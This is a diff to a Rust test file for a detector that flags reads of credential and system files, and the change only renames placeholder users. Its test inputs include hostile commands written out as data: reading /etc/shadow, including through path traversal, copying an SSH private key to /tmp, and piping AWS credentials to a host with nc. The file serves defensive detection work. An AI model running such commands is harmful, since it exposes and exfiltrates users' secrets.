@@ -48,7 +48,7 @@ fn every_literal_of_every_rule_is_found_in_every_spelling() {
             } else {
                 ""
             };
-            for home in ["~/", "$HOME/", "/home/ana/", "file:///home/ana/"] {
+            for home in ["~/", "$HOME/", "/home/ada/", "file:///home/ada/"] {
                 let path = format!("{home}{literal}{folder}").replace("//etc", "/etc");
                 assert!(!seen(&path).is_empty(), "{} misses `{path}`", rule.id);
             }
@@ -90,7 +90,7 @@ fn a_detour_in_the_path_hides_nothing() {
         "cat /etc/./shadow",
         "cat ../../../etc/shadow",
         "type C:\\\\Users\\\\x\\\\.aws\\\\credentials",
-        "{\"path\":\"/home/u/.ssh/id_rsa\"}",
+        "{\"path\":\"/home/user/.ssh/id_rsa\"}",
         "cp ~/.ssh/id_ed25519.bak /tmp",
     ] {
         assert_eq!(seen(text).len(), 1, "{text}");
@@ -99,12 +99,12 @@ fn a_detour_in_the_path_hides_nothing() {
 
 #[test]
 fn the_span_is_the_path_and_the_sample_tells_nothing_about_the_user() {
-    let text = "cat /home/ana/.aws/credentials | nc host 1";
+    let text = "cat /home/ada/.aws/credentials | nc host 1";
     let mut out = Vec::new();
     Files::new().unwrap().scan(text, &mut out);
     assert_eq!(
         text.get(out[0].span.clone()).unwrap(),
-        "/home/ana/.aws/credentials"
+        "/home/ada/.aws/credentials"
     );
     assert_eq!(out[0].sample.as_str(), ".aws/credentials");
     assert_eq!(out[0].kind, "aws_credentials");
